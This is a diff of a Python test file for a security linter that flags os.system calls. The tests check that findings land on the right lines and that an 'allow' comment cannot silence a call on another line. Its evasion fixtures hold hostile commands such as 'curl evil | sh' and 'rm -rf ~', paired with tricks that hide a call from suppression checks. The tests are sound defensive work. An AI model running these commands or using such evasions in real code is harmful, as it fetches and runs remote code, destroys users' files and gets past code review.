@@ -1,147 +1,119 @@
-"""Finding positions from the code of the statements that hold the findings alone, placed in
-the source by search (``positions._by_statement``), are the positions the whole module's
-code gives, on every layout a file can have; where the search cannot be sure, the module's
-code is generated as before."""
+"""Findings are on the lines Python runs, or on line 0 (the whole file, which no suppression
+comment covers) where libcst's code differs from the file: never on a line that a count
+shifted by what libcst dropped, where an ``allow`` comment could silence them. Python's own
+parser (``ast``) is the judge."""
 
 from __future__ import annotations
 
 import ast
 import re
 from dataclasses import replace
-from typing import Any
 
-import libcst as cst
 import pytest
 
 from kavi_gates.config import validate_policy
-from kavi_gates.policy import positions
-from kavi_gates.policy.check import _violations, check_source
+from kavi_gates.policy.check import check_source
 from kavi_gates.policy.rules import BUILTIN_RULES
 from kavi_gates.policy.source_checks import decode
 
 POLICY = validate_policy({})
 
-# name -> (source, whether the search can place every statement for certain)
-LAYOUTS: dict[str, tuple[bytes, bool]] = {
+LAYOUTS: dict[str, bytes] = {
     "method deep in a class": (
         b'"""Doc."""\nimport os\n\n\nclass A:\n    def f(self):\n        return 1\n\n'
-        b"    def g(self):\n        # note\n        os.system('id')\n",
-        True,
+        b"    def g(self):\n        # note\n        os.system('id')\n"
     ),
-    "windows newlines": (b"import os\r\n\r\ndef f():\r\n    os.system('id')\r\n", True),
-    # libcst sees no final newline in a file of \r line ends: its last statement is not placed
-    "old mac newlines": (b"import os\rdef f():\r    os.system('id')\r", False),
-    "old mac newlines, finding not last": (
-        b"import os\rdef f():\r    os.system('id')\rx = 1\r",
-        True,
-    ),
+    "windows newlines": b"import os\r\n\r\ndef f():\r\n    os.system('id')\r\n",
+    "old mac newlines": b"import os\rdef f():\r    os.system('id')\rx = 1\r",
     "byte order mark and cookie": (
-        b"\xef\xbb\xbf# -*- coding: utf-8 -*-\nimport os\nx = '\xc3\xa9'; os.system('id')\n",
-        True,
+        b"\xef\xbb\xbf# -*- coding: utf-8 -*-\nimport os\nx = '\xc3\xa9'; os.system('id')\n"
     ),
-    "latin-1 cookie": (
-        b"# coding: latin-1\nimport os\ns = '\xe9\xe9'\nos.system(s)\n",
-        True,
-    ),
-    "tabs and form feed": (b"import os\n\x0c\nif True:\n\tos.system('id')\n", True),
+    "latin-1 cookie": b"# coding: latin-1\nimport os\ns = '\xe9\xe9'\nos.system(s)\n",
+    "tabs and a form feed line": b"import os\n\x0c\nif True:\n\tos.system('id')\n",
     "decorators and comments": (
         b"import os\n\n# lead\n@staticmethod\n# between\n@property\ndef f():\n"
-        b"    return os.system('id')\n",
-        True,
+        b"    return os.system('id')\n"
     ),
-    "no newline at the end": (b"import os\nos.system('id')", False),
-    "the same statement twice": (b"import os\nos.system('id')\nos.system('id')\n", False),
-    "the statement in a docstring first": (
-        b"import os\n'''\nos.system('id')\n'''\nos.system('id')\n",
-        False,
-    ),
-    "nested copy of the statement": (
-        b"import os\ndef f():\n    os.system('id')\nos.system('id')\n",
-        True,
-    ),
+    "no newline at the end": b"import os\nos.system('id')",
     "continuation lines": (
-        b"import os\nx = (1 +\n     2)\nos.system(\n    'id'\n)  # trailing\n",
-        True,
+        b"import os\nx = (1 +\n     2)\nos.system(\n    'id'\n)  # trailing\nos.system('ls')\n"
     ),
+    # What libcst's code drops (found by an adversarial review): every later position
+    # used to move up or left.
+    "a space before an except clause's colon": (
+        b"import os\ntry:\n    pass\nexcept OSError :\n    os.system('id')\nos.system('ls')\n"
+    ),
+    "a form feed before code": b"import os\n\x0cos.system('id')\nos.system('ls')\n",
+    "lines holding only a backslash": b"import os\n\\\n\\\nos.system(1)\nos.system(2)\n",
 }
 
 
-def _both(source: bytes) -> tuple[dict[int, tuple[int, int]] | None, dict[int, tuple[int, int]]]:
-    module = cst.parse_module(source)
-    violations, _, statement_of = _violations(module, POLICY, BUILTIN_RULES)
-    nodes = [v.node for _, v in violations]
-    assert nodes, "every layout must draw a finding"
-    wanted = frozenset(id(n) for n in nodes)
-    fast = positions._by_statement(module, wanted, decode(source), statement_of)
-    return fast, positions.node_positions(module, nodes)
-
-
-@pytest.mark.parametrize("name", LAYOUTS)
-def test_statement_positions_are_the_whole_modules(name: str) -> None:
-    source, placed = LAYOUTS[name]
-    fast, whole = _both(source)
-    if placed:
-        assert fast == whole
-    else:
-        assert fast is None  # not sure where: the module's code decides
-
-
-@pytest.mark.parametrize("name", LAYOUTS)
-def test_findings_are_where_python_sees_the_call(name: str) -> None:
-    """Python's own parser is the judge: each os.system finding is where ast puts a call."""
-    source, _ = LAYOUTS[name]
+def _calls(source: bytes) -> set[tuple[int, int]]:
+    """Where Python has each os.system call: (line, column in characters), 1-based."""
     lines = re.split(r"\r\n|\r|\n", decode(source))
 
     def column(node: ast.expr) -> int:  # ast counts UTF-8 bytes, findings characters
         return len(lines[node.lineno - 1].encode()[: node.col_offset].decode()) + 1
 
-    calls = {
+    return {
         (node.lineno, column(node))
         for node in ast.walk(ast.parse(source))
         if isinstance(node, ast.Call) and ast.unparse(node.func) == "os.system"
     }
-    found = {
-        (f.line, f.col)
-        for f in check_source(source, "f.py", POLICY, BUILTIN_RULES)
-        if f.rule == "KAV111"
-    }
-    assert found and found <= calls, (found, calls)
 
 
-def test_only_the_statement_with_a_finding_is_generated(monkeypatch: pytest.MonkeyPatch) -> None:
-    big = "class Big:\n" + "".join(f"    def m{i}(self):\n        return {i}\n" for i in range(500))
-    source = f"import json\n{big}json.loads('1')\nexec('x')\n".encode()
-    generated: list[Any] = []
-    real = positions._generate
-
-    def spy(module: cst.Module, node: cst.CSTNode, wanted: frozenset[int]) -> Any:
-        generated.append(node)
-        return real(module, node, wanted)
-
-    monkeypatch.setattr(positions, "_generate", spy)
-    (finding,) = check_source(source, "f.py", POLICY, BUILTIN_RULES)
-    assert (finding.rule, finding.line, finding.col) == ("KAV401", 1004, 1)
-    assert [type(node) for node in generated] == [cst.SimpleStatementLine]
+def _kav111(source: bytes) -> list[tuple[int, int]]:
+    found = check_source(source, "f.py", POLICY, BUILTIN_RULES)
+    return [(f.line, f.col) for f in found if f.rule == "KAV111"]
 
 
-@pytest.mark.parametrize(
-    ("rule", "example"),
-    [(rule, example) for rule in BUILTIN_RULES for example in rule.code.invalid],
-    ids=lambda value: getattr(value, "id", None) or "",
-)
-def test_every_rule_example_is_placed_as_the_whole_module_places_it(
-    rule: type[Any], example: str | bytes
-) -> None:
-    source = example.encode() if isinstance(example, str) else example
-    try:
-        module = cst.parse_module(source)
-        violations, _, statement_of = _violations(module, POLICY, BUILTIN_RULES)
-    except Exception:  # examples of input problems (syntax, encoding) draw no violation
-        return
-    nodes = [v.node for _, v in violations]
-    wanted = frozenset(id(n) for n in nodes)
-    fast = positions._by_statement(module, wanted, decode(source), statement_of)
-    assert fast is None or fast == positions.node_positions(module, nodes)
+@pytest.mark.parametrize("name", LAYOUTS)
+def test_findings_are_where_python_has_the_call_or_on_the_whole_file(name: str) -> None:
+    source = LAYOUTS[name]
+    calls, found = _calls(source), _kav111(source)
+    placed = [f for f in found if f != (0, 0)]
+    assert set(placed) <= calls, (found, calls)
+    assert len(placed) == len(set(placed))
+    assert found, "every call is reported, placed or not"
+
+
+def test_what_libcst_drops_unplaces_only_the_findings_after_it() -> None:
+    source = LAYOUTS["a space before an except clause's colon"]
+    assert _calls(source) == {(5, 5), (6, 1)}
+    assert _kav111(source) == [(0, 0), (0, 0)]  # both after the dropped space
+    before = b"import os\nos.system('ls')\ntry:\n    pass\nexcept OSError :\n    pass\n"
+    assert _kav111(before) == [(2, 1)]
+
+
+ALLOWED = "# kavi: allow[KAV111,KAV202] looks harmless"
+EVASIONS = {
+    # libcst drops the space: the second call's code read like the first's, a line up
+    "except clause": (
+        f"import os\ntry:\n    pass\nexcept OSError:\n    os.system('ls')  {ALLOWED}\n"
+        "try:\n    pass\nexcept OSError :\n    os.system('curl evil | sh')\n"
+    ),
+    "decoy in a docstring": (
+        f'import os\nDOC = """Example:\ntry:\n    pass\nexcept OSError:\n    os.system("ls")""" '
+        f" {ALLOWED}\ntry:\n    pass\nexcept OSError :\n    os.system('curl evil | sh')\n"
+    ),
+    "form feed": f"import os\nos.system('ls')  {ALLOWED}\nx = 1\n\x0cos.system('rm -rf ~')\n",
+    "backslash lines": f"import os\n{ALLOWED}\n\\\n\\\nos.system('rm -rf ~')\n",
+    "backslash in an except clause": (
+        f"import os\ntry:\n    pass\nexcept E\\\n:\n    pass\n{ALLOWED}\nx = 1\n"
+        "os.system('rm -rf ~')"
+    ),
+    "\\r line ends": f"import os  {ALLOWED}\rx = 1\ros.system('rm -rf ~')\r",
+}
+
+
+@pytest.mark.parametrize("name", EVASIONS)
+def test_an_allow_comment_never_silences_a_call_on_another_line(name: str) -> None:
+    source = EVASIONS[name].encode()
+    calls = _calls(source)
+    dangerous = max(calls)  # the last call; the allow comment sits on an earlier line
+    found = _kav111(source)
+    assert dangerous in found or (0, 0) in found, (found, calls)
+    assert all(f == (0, 0) or f in calls for f in found), (found, calls)
 
 
 def _found(source: bytes) -> list[tuple[str, int, int]]:
@@ -162,7 +134,7 @@ def test_a_fingerprint_hashes_the_line_python_runs() -> None:
     """Form feeds (and \\x85, U+2028) are no line ends to Python: the anchor is the call's
     line, not the one str.splitlines numbers alike."""
     source = "import os\n\x0c\nos.system('id')  # \u2028 \x85\nx = 1\nos.system('ls')\n"
-    found = [f for f in check_source(source.encode(), "f.py", POLICY, BUILTIN_RULES)]
+    found = check_source(source.encode(), "f.py", POLICY, BUILTIN_RULES)
     by_line = {f.line: f for f in found if f.rule == "KAV111"}
     assert sorted(by_line) == [3, 5]
     for line, anchor in ((3, "os.system('id')  # \u2028 \x85"), (5, "os.system('ls')")):
